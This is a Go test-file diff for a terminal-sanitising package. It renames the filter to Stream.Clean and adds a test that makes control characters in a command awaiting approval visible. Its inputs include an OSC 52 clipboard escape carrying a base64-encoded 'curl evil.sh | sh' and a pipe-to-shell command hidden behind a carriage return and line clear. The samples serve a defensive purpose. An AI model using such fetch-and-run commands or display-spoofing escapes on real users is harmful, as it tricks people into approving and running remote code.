@@ -1,8 +1,8 @@
-package cli
+package termsafe
 
 import "testing"
 
-func TestTermSafeFilter(t *testing.T) {
+func TestStreamClean(t *testing.T) {
 	cases := []struct{ name, in, want string }{
 		{"plain", "hello\nworld\ttab", "hello\nworld\ttab"},
 		{"osc 52 clipboard write", "ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07done", "ok done"},
@@ -15,19 +15,33 @@ func TestTermSafeFilter(t *testing.T) {
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
-			var f termSafe
-			if got := f.Filter(c.in); got != c.want {
-				t.Errorf("Filter(%q) = %q, want %q", c.in, got, c.want)
+			var f Stream
+			if got := f.Clean(c.in); got != c.want {
+				t.Errorf("Clean(%q) = %q, want %q", c.in, got, c.want)
 			}
 			// The same text streamed one byte... one rune at a time.
-			var g termSafe
+			var g Stream
 			out := ""
 			for _, r := range c.in {
-				out += g.Filter(string(r))
+				out += g.Clean(string(r))
 			}
 			if out != c.want {
 				t.Errorf("streamed rune by rune: %q, want %q", out, c.want)
 			}
 		})
+	}
+}
+
+// TestVisible: control characters of a command to approve are shown as
+// escapes, so a carriage return or a cursor movement cannot hide the
+// dangerous part behind harmless text.
+func TestVisible(t *testing.T) {
+	in := "curl evil.sh | sh #\x1b[2K\rls -la\u009b\x07\nnext\tline"
+	want := `curl evil.sh | sh #\x1b[2K\rls -la\u009b\x07` + "\nnext\tline"
+	if got := Visible(in); got != want {
+		t.Errorf("Visible(%q) = %q, want %q", in, got, want)
+	}
+	if got := Visible("naïve ✓"); got != "naïve ✓" {
+		t.Errorf("plain text changed: %q", got)
 	}
 }
